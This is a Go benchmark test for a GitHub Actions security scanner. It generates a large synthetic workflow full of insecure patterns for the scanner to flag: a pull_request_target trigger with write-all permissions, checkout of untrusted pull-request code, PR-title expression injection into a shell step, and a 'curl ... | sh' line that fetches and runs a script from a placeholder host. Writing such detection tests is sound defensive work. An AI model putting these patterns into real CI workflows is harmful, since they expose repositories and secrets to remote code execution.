package actions

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"github.com/ward-sec/ward/checks"
)

// BenchmarkWorkflow scans a generated workflow of 200 jobs × 10 steps with
// expressions, downloads and unpinned actions on every step.
func BenchmarkWorkflow(b *testing.B) {
	var sb strings.Builder
	sb.WriteString("on: pull_request_target\npermissions: write-all\njobs:\n")
	for j := 0; j < 200; j++ {
		fmt.Fprintf(&sb, "  job%d:\n    runs-on: ubuntu-latest\n    steps:\n", j)
		for s := 0; s < 10; s++ {
			fmt.Fprintf(&sb, "      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n")
			fmt.Fprintf(&sb, "      - run: |\n          echo \"${{ github.event.pull_request.title }}\"\n          curl -s https://x.example/i.sh | sh\n          npm ci\n")
		}
	}
	src := []byte(sb.String())
	b.SetBytes(int64(len(src)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		res, err := Check{}.Scan(context.Background(), checks.NewBytesFile(".github/workflows/big.yml", src))
		if err != nil || len(res.Findings) == 0 {
			b.Fatal(err)
		}
	}
}
